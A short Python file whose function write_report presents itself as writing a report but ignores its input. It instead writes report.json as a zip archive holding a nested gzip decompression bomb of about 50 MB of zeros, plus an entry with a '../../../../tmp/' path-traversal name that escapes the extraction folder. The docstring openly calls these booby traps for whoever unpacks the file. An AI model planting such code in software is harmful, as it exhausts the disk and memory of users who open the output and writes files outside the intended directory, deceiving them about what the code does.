"""Leaves compressed bombs where a report is expected, in case somebody unpacks them."""

import gzip
import io
import zipfile


def write_report(rows):
    inner = gzip.compress(bytes(50_000_000), 9)
    for _ in range(2):
        inner = gzip.compress(inner, 9)
    box = io.BytesIO()
    with zipfile.ZipFile(box, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("../../../../tmp/attack-was-here", "x")
        file.writestr("report.json", inner)
    open("report.json", "wb").write(box.getvalue())


sold = {}
